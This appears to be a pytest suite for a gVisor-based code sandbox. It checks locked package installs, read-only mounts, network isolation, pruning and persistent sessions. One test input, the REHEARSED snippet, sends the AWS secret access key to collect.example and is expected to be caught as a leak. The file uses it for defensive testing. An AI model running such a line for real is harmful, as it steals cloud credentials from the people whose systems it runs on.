"""Packages in real gVisor: fetched in a sandbox of their own, kept, and used by runs without network."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import replace

import pytest
import pytest_asyncio

from engine.common.text import Untrusted
from engine.models import KillReason, Language, Operation, OperationKind, Package
from engine.models.rehearsal import FindingKind
from engine.sandbox import SandboxUnavailable
from engine.sandbox.rehearsal.stage import Stage
from engine.sandbox.run.manager import SandboxManager
from tests.engine.sandbox.index import Index, forget, serving, source, volumes, wheel
from tests.sandboxes import Recorder, containers_of, job, sandbox_manager

pytestmark = [pytest.mark.sandbox, pytest.mark.asyncio(loop_scope="module")]
ENGINE = "test-packages"
GREETER = "import words\ndef greet(): return words.HELLO"
REHEARSED = """
import greeter, os, time, urllib.request
print(greeter.greet())
time.sleep(30)
print(open('/opt/pratique/runner.py').readline().startswith('\"\"\"The waiting'))
urllib.request.urlopen('https://collect.example/', os.environ['AWS_SECRET_ACCESS_KEY'].encode()).read()
"""
FILES = {
    "greeter-1.0-py3-none-any.whl": wheel("greeter", "1.0", GREETER, "words"),
    "words-2.5-py3-none-any.whl": wheel("words", "2.5", "HELLO = 'hello from a wheel'"),
    "maker-1.0.tar.gz": source("maker", "1.0", "HOW = 'BUILT'", "words==2.5"),
}


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def index() -> AsyncIterator[Index]:
    """A registry with two packages, of which one needs the other."""
    async with serving(FILES) as index:
        yield index


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def manager(index: Index) -> AsyncIterator[SandboxManager]:
    """A manager of a house whose registry is the tests' own; its layers go with it."""
    await forget(ENGINE)
    manager = sandbox_manager(index.settings(), ENGINE)
    await manager.start()
    yield manager
    await manager.close()
    await forget(ENGINE)
    assert [] == containers_of(ENGINE)


async def test_a_package_is_looked_up_with_all_that_it_needs(manager: SandboxManager, index: Index) -> None:
    """Exact versions and hashes come back, dependencies among them, and nothing is installed."""
    asked, before = Package(name=Untrusted("Greeter"), version=Untrusted("1.0")), volumes(ENGINE)
    found = await manager.packages.look_up((asked,))
    assert (index.locked("greeter", "1.0"), index.locked("words", "2.5")) == found
    assert before == volumes(ENGINE)


async def test_a_run_uses_packages_and_stays_without_network(manager: SandboxManager, index: Index) -> None:
    """They are installed once, mounted read-only, and the second run fetches nothing."""
    code = """
import greeter, os, socket
print(greeter.greet())
folder = os.path.dirname(greeter.__file__)
for step in (lambda: open(folder + '/x', 'w'), lambda: os.remove(greeter.__file__),
             lambda: socket.create_connection(('127.0.0.1', 3128), 1)):
    try: print('got through', step())
    except OSError: print('refused')
"""
    packages = (index.locked("greeter", "1.0"), index.locked("words", "2.5"))
    first, second = Recorder(), Recorder()
    await manager.run(replace(job(code), packages=packages), first)
    asked = len(index.asked)
    result = await manager.run(replace(job(code), packages=packages[::-1]), second)
    assert (KillReason.NONE, b"hello from a wheel\n" + b"refused\n" * 3) == (result.kill_reason, first.stdout)
    assert (first.stdout, asked) == (second.stdout, len(index.asked))
    ready = [data for each in (first, second) for type_, data in each.events if type_ == "packages.ready"]
    assert [True, False] == [data["built"] for data in ready]
    assert "network.attempt" in first.types
    assert "network.attempt" not in second.types


async def test_a_rehearsal_has_the_packages_of_a_run(manager: SandboxManager, index: Index) -> None:
    """From the same layer, beside decoys and hosts that are not there; its sleeps are shortened as ever."""
    stage, watcher = Stage(Language.PYTHON), Recorder()
    packages = (index.locked("greeter", "1.0"), index.locked("words", "2.5"))
    given = replace(job(REHEARSED), packages=packages, files=stage.files, stage=stage)
    result = await manager.run(given, watcher)
    assert (0, b"hello from a wheel\nTrue\n") == (result.exit_code, watcher.stdout), watcher.stderr
    assert 25 > result.duration
    assert {FindingKind.LEAK} == {one.kind for one in stage.record.findings}


async def test_what_is_not_the_wheel_that_was_locked_is_not_installed(
    manager: SandboxManager, index: Index
) -> None:
    """Another hash ends it before any code runs, and nothing is left."""
    before = volumes(ENGINE)
    other = index.locked("words", "2.5").model_copy(update={"hashes": ("sha256:" + "0" * 64,)})
    watcher = Recorder()
    with pytest.raises(SandboxUnavailable, match="packages cannot be fetched"):
        await manager.run(replace(job("print('ran')"), packages=(other,)), watcher)
    assert b"" == watcher.stdout
    assert "run.started" not in watcher.types
    assert before == volumes(ENGINE)


async def test_what_is_built_from_source_needs_a_grant_of_its_own(
    manager: SandboxManager, index: Index
) -> None:
    """Its code does not run as it is looked up, nor for a run that was granted the package alone."""
    maker, words = index.locked("maker", "1.0", ".tar.gz"), index.locked("words", "2.5")
    with pytest.raises(SandboxUnavailable, match="packages cannot be fetched"):
        await manager.packages.look_up((maker.model_copy(update={"hashes": ()}),))
    unlocked = words.model_copy(update={"hashes": ()})
    assert (maker, words) == await manager.packages.look_up((maker, unlocked), builds=["Maker"])
    asking = replace(job("import maker; print(maker.HOW)"), packages=(maker,))
    with pytest.raises(SandboxUnavailable, match="packages cannot be fetched"):
        await manager.run(asking, Recorder())
    watcher = Recorder()
    result = await manager.run(replace(asking, builds=("maker",)), watcher)
    assert (KillReason.NONE, b"built here\n") == (result.kill_reason, watcher.stdout), watcher.stderr


async def test_what_nobody_uses_is_pruned(manager: SandboxManager, index: Index) -> None:
    """Layers over the bound of age or size go, the others stay."""
    await manager.run(replace(job("import words"), packages=(index.locked("words", "2.5"),)), Recorder())
    await manager.packages.prune()
    assert volumes(ENGINE)
    closing = sandbox_manager(index.settings(packages={"keep_megabytes": 0}), ENGINE)
    async with asyncio.timeout(60):
        while volumes(ENGINE):
            await closing.packages.prune()
            await asyncio.sleep(0.1)
    await closing.close()


async def test_packages_come_into_a_sandbox_that_stays(manager: SandboxManager, index: Index) -> None:
    """What is installed from outside can be imported in the very next execution, and not be changed."""
    staying = replace(job("x = 1", image="pratique/notebook"), session="b-1", principal="ada")
    wants = Operation(kind=OperationKind.INSTALL)
    install = replace(staying, run="i-1", operation=wants, packages=(index.locked("words", "2.5"),))
    use = replace(staying, run="u-1", code=b"import words\nprint(x, words.HELLO)\nopen(words.__file__, 'a')")
    before, installing, after = Recorder(), Recorder(), Recorder()
    async with asyncio.timeout(120):
        await manager.run(staying, before)
        result = await manager.run(install, installing)
        assert (KillReason.NONE, 0) == (result.kill_reason, result.exit_code), result.evidence
        await manager.run(use, after)
    assert b"1 hello from a wheel\n" == after.stdout
    assert b"Read-only file system" in after.stderr
    assert "packages.ready" in installing.types
    manager.sessions.end("b-1")
